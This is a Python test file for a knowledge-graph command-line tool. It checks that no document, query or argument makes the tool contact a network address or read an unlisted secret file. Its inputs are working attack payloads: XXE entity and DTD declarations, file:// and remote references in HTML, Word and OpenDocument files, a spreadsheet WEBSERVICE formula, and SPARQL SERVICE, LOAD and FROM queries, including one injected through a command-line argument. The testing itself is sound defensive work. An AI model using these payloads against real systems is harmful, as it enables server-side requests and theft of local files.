"""Whatever a document, query, graph, list or argument says, no command calls an address or reads a file it was not given."""

import email.message
import io
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from kg.cli.main import cli
from tests.hostile.make_corpus import OFFICE, RELATIONS, W, docx, paragraph, xlsx, zipped

#: Stands in a file that no command is given.
CANARY = "Zerzura canary 7719"

STORY = "At least seven people were killed in Marwat on Monday, the mayor said."

# In all that follows, @U@ stands for an address of a server that listens, @F@ for the path of the planted file.
ENTITIES = '<!DOCTYPE x [<!ENTITY a SYSTEM "@F@"><!ENTITY b SYSTEM "@U@b"><!ENTITY % p SYSTEM "@U@p">%p;]>'
DTD = '<!DOCTYPE x SYSTEM "@U@x.dtd">'
SPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
ODT = f"<office:document-content {SPACES}><office:body><office:text><text:p>{STORY} &a;</text:p></office:text></office:body></office:document-content>"


def external_mail() -> bytes:
    """A mail whose attachment lies elsewhere."""
    mail = email.message.EmailMessage()
    mail["Subject"] = "News"
    mail.set_content(STORY)
    text = mail.as_string()
    return text.replace(
        "Content-Type: text/plain", 'Content-Type: message/external-body; access-type=URL; URL="@U@body"', 1
    ).encode()


def template() -> bytes:
    """A Word file with a template, a picture and a text elsewhere."""
    with zipfile.ZipFile(io.BytesIO(docx(f"<w:document {W}><w:body>{paragraph(STORY)}</w:body></w:document>"))) as file:
        members = {name: file.read(name) for name in file.namelist()}
    external = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{place}" TargetMode="External"/>'
        for n, (kind, place) in enumerate([("attachedTemplate", "@U@t"), ("image", "@U@i"), ("aFChunk", "file://@F@")])
    )
    return zipped(
        {**members, "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{external}</Relationships>'.encode()}
    )


#: Documents that a build is given, by name.
DOCUMENTS: dict[str, bytes] = {
    "entities.html": f"{ENTITIES}<html><body><p>{STORY} &a; &b;</p></body></html>".encode(),
    "entities.xhtml": f"<?xml version='1.0'?>{ENTITIES}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{STORY} &a;</p></body></html>".encode(),
    "dtd.xhtml": f"<?xml version='1.0'?>{DTD}<html><body><p>{STORY}</p></body></html>".encode(),
    "embedded.html": f"<html><head><base href='@U@'><link rel='stylesheet' href='@U@c'><link rel='canonical' href='file://@F@'><script src='@U@s'></script></head><body><p>{STORY}</p><iframe src='file://@F@'></iframe><img src='@U@i'><object data='@U@o'></object></body></html>".encode(),
    "refresh.html": f"<html><head><meta http-equiv='refresh' content='0; url=@U@'><meta property='og:url' content='@U@'></head><body><p>{STORY}</p></body></html>".encode(),
    "include.html": f"<html xmlns:xi='http://www.w3.org/2001/XInclude'><body><p>{STORY}</p><xi:include href='@F@' parse='text'/></body></html>".encode(),
    "jsonld.html": f"<html><head><script type='application/ld+json'>{{\"@context\": \"@U@context\", \"@type\": \"NewsArticle\", \"datePublished\": \"2024-01-01\"}}</script></head><body><p>{STORY}</p></body></html>".encode(),
    "entities.docx": docx(f"{ENTITIES}<w:document {W}><w:body>{paragraph(f'{STORY} &a;')}</w:body></w:document>"),
    "dtd.docx": docx(f"{DTD}<w:document {W}><w:body>{paragraph(STORY)}</w:body></w:document>"),
    "template.docx": template(),
    "entities.odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": f"{ENTITIES}{ODT}".encode()}),
    "dtd.odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": f"{DTD}{ODT.replace(' &a;', '')}".encode()}),
    "entities.xlsx": xlsx(f'<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>{STORY} &a;</t></is></c></row>', ENTITIES),
    "formula.csv": f'text\n"=WEBSERVICE(""@U@"") {STORY}"\n'.encode(),
    "external.eml": external_mail(),
    "reference.json": b'[{"$ref": "file://@F@", "text": "@F@", "url": "@U@"}]',
}  # fmt: skip

PREFIXES = "@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> . @prefix rv: <https://w3id.org/reported-violence/ontology#> .\n"
SHAPE = "<urn:x:s> a sh:NodeShape ; sh:targetClass rv:Report ; "

#: Files beside which a command runs, and the command.
COMMANDS: list[tuple[dict[str, str], list[str]]] = [
    ({}, ["query", "SELECT * { SERVICE <@U@> { ?s ?p ?o } }"]),
    ({}, ["query", "SELECT * { SERVICE SILENT <@U@> { ?s ?p ?o } }"]),
    ({}, ["query", r"SELECT * { \u0053ERVICE <@U@> { ?s ?p ?o } }"]),
    ({}, ["query", "SELECT * FROM <@U@> { ?s ?p ?o }"]),
    ({}, ["query", "SELECT * FROM <file://@F@> { ?s ?p ?o }"]),
    ({}, ["query", "SELECT * FROM NAMED <file://@F@> { GRAPH ?g { ?s ?p ?o } }"]),
    ({}, ["query", "CONSTRUCT { ?s ?p ?o } FROM <@U@> WHERE { ?s ?p ?o }"]),
    ({}, ["query", "DESCRIBE <file://@F@>"]),
    ({}, ["query", "LOAD <@U@>"]),
    ({}, ["query", "LOAD <file://@F@> INTO GRAPH <urn:x:g>"]),
    ({}, ["query", "--file", "@U@"]),
    ({}, ["query", "reports", "--publisher", '" } SERVICE <@U@> { ?s ?p ?o } #']),
    ({}, ["query", "provenance", "--claim", "@U@"]),
    ({"own.rq": "#+ params:\n#+   x:\n#+     type: iri\nSELECT * { VALUES ?_x { <@U@> } SERVICE ?_x { ?s ?p ?o } }"}, ["query", "--file", "own.rq"]),
    ({"context.jsonld": '{"@context": "@U@context", "@id": "urn:x:a", "name": "b"}'}, ["validate", "context.jsonld"]),
    ({"file.jsonld": '{"@context": "file://@F@", "@id": "urn:x:a", "name": "b"}'}, ["validate", "file.jsonld"]),
    ({"import.jsonld": '{"@context": {"@version": 1.1, "@import": "@U@context"}, "@id": "urn:x:a"}'}, ["validate", "import.jsonld"]),
    ({"imports.ttl": PREFIXES + "<urn:x:o> a owl:Ontology ; owl:imports <@U@>, <file://@F@> ."}, ["validate", "imports.ttl"]),
    ({"graph.ttl": PREFIXES + "<urn:x:o> sh:shapesGraph <@U@> ."}, ["validate", "graph.ttl"]),
    ({"data.rdf": f'{ENTITIES}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'}, ["validate", "data.rdf"]),
    ({}, ["validate", "@U@data.ttl"]),
    ({}, ["validate", "file://@F@"]),
    ({"own.ttl": PREFIXES + "<urn:x:o> a owl:Ontology ; owl:imports <@U@>, <file://@F@> . " + SHAPE + "sh:nodeKind sh:IRI ."}, ["validate", "--shapes", "own.ttl"]),
    ({"own.ttl": PREFIXES + SHAPE + 'sh:sparql [ sh:select "SELECT $this ?value { SERVICE <@U@> { $this ?p ?value } }" ] .'}, ["validate", "--shapes", "own.ttl"]),
    ({"own.ttl": PREFIXES + SHAPE + 'sh:sparql [ sh:select "SELECT $this ?value FROM <file://@F@> { ?s ?p ?value }" ] .'}, ["validate", "--shapes", "own.ttl"]),  # noqa: S608
    ({"own.ttl": PREFIXES + SHAPE + 'sh:rule [ a sh:SPARQLRule ; sh:construct "CONSTRUCT { $this a rv:X } WHERE { SERVICE <@U@> { ?s ?p ?o } }" ] .'}, ["validate", "--shapes", "own.ttl"]),
    ({"own.ttl": PREFIXES + SHAPE + 'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL "@U@f.js" ] ] .'}, ["validate", "--shapes", "own.ttl"]),
    ({}, ["validate", "--shapes", "@U@own.ttl"]),
    ({}, ["build", "@U@report.html", "--store", "new"]),
    ({}, ["build", "file://@F@", "--store", "new"]),
    ({"list/metadata.csv": "file,url\n@U@a.html,@U@\n@F@,\n../secret.txt,\n"}, ["build", "list", "--reader", "manual", "--store", "new"]),
    ({"kg.toml": 'include = "@F@"\n'}, ["query", "reports"]),
    ({}, ["extract", "@U@report.html"]),
    ({}, ["diff", "a.nq", "file://@F@"]),
    ({"a.jsonld": '{"@context": "@U@context"}', "b.jsonld": '{"@context": "file://@F@"}'}, ["diff", "a.jsonld", "b.jsonld"]),
    ({}, ["restore", "@U@backup.tar"]),
    ({}, ["show", "@U@"]),
    ({}, ["why", "@U@"]),
    ({}, ["ontology", "@U@"]),
    ({}, ["retract", "file://@F@"]),
    ({}, ["export", "@U@out.ttl"]),
    ({}, ["query", "reports", "--save", "@U@answer"]),
    ({}, ["backup", "@U@backup"]),
]  # fmt: skip


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """A socket of this machine that takes connections; `accept` raises BlockingIOError as long as nobody came."""
    with socket.socket() as waiting:
        waiting.bind(("127.0.0.1", 0))
        waiting.listen(100)
        waiting.setblocking(False)
        yield waiting


class Place:
    """A folder to work in, with an address where somebody listens and a file that nobody is given."""

    def __init__(self, folder: Path, listener: socket.socket) -> None:
        self.folder, self.listener = folder, listener
        self.url = f"http://127.0.0.1:{listener.getsockname()[1]}/"
        self.secret = folder / "secret.txt"
        self.secret.write_text(f"{CANARY}\n<urn:x:a> <urn:x:b> '{CANARY}' .\n")
        self.work = folder / "work"
        self.work.mkdir()

    def filled(self, text: str) -> str:
        return text.replace("@U@", self.url).replace("@F@", str(self.secret))

    def put(self, name: str, data: bytes) -> None:
        path = self.work / name
        path.parent.mkdir(exist_ok=True, parents=True)
        if data.startswith(b"PK"):
            with zipfile.ZipFile(io.BytesIO(data)) as file:
                data = zipped({member: self.filled(file.read(member).decode()).encode() for member in file.namelist()})
            path.write_bytes(data)
        else:
            path.write_text(self.filled(data.decode()))

    def run(self, *arguments: str) -> str:
        """All that a command says; whatever it says, nobody may have come to the listener."""
        result = CliRunner().invoke(cli, [self.filled(argument) for argument in arguments], prog_name="kg")
        assert result.exit_code in (0, 1, 2, 3, 4), result.output
        assert "defect in kg" not in result.output
        with pytest.raises(BlockingIOError):
            self.listener.accept()
        return result.output


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, listener: socket.socket) -> tuple[Path, str]:
    """The store that a build of all documents made, and all that was said."""
    place = Place(tmp_path_factory.mktemp("reaching"), listener)
    for name, data in DOCUMENTS.items():
        place.put(name, data)
    # Without workers, which have no network: it is the readers that must not ask for it.
    said = place.run("build", str(place.work), "--workers", "0", "--store", str(place.folder / "store"))
    said += place.run("export", "-", "--format", "nquads", "--store", str(place.folder / "store"))
    return place.folder / "store", said


def test_there_are_more_than_forty_ways() -> None:
    assert len(DOCUMENTS) + len(COMMANDS) >= 40


def test_no_document_makes_a_build_call_an_address_or_read_another_file(built: tuple[Path, str]) -> None:
    assert CANARY not in built[1]
    assert "seven people were killed in Marwat" in built[1]


@pytest.mark.parametrize("name", DOCUMENTS)
def test_every_document_is_read_or_rejected(built: tuple[Path, str], name: str) -> None:
    assert name in built[1]


@pytest.mark.parametrize(("files", "arguments"), COMMANDS, ids=[" ".join(arguments)[:60] for _, arguments in COMMANDS])
def test_no_command_calls_an_address_or_shows_another_file(
    built: tuple[Path, str],
    listener: socket.socket,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    files: dict[str, str],
    arguments: list[str],
) -> None:
    place = Place(tmp_path, listener)
    monkeypatch.chdir(place.work)
    for name, text in files.items():
        place.put(name, text.encode())
    if "kg.toml" not in files and "--store" not in arguments:
        monkeypatch.setenv("KG_STORE", str(built[0]))
    assert CANARY not in place.run(*arguments)
    written = [path for path in tmp_path.rglob("*") if path.is_file() and path != place.secret]
    assert not [path for path in written if CANARY.encode() in path.read_bytes()]
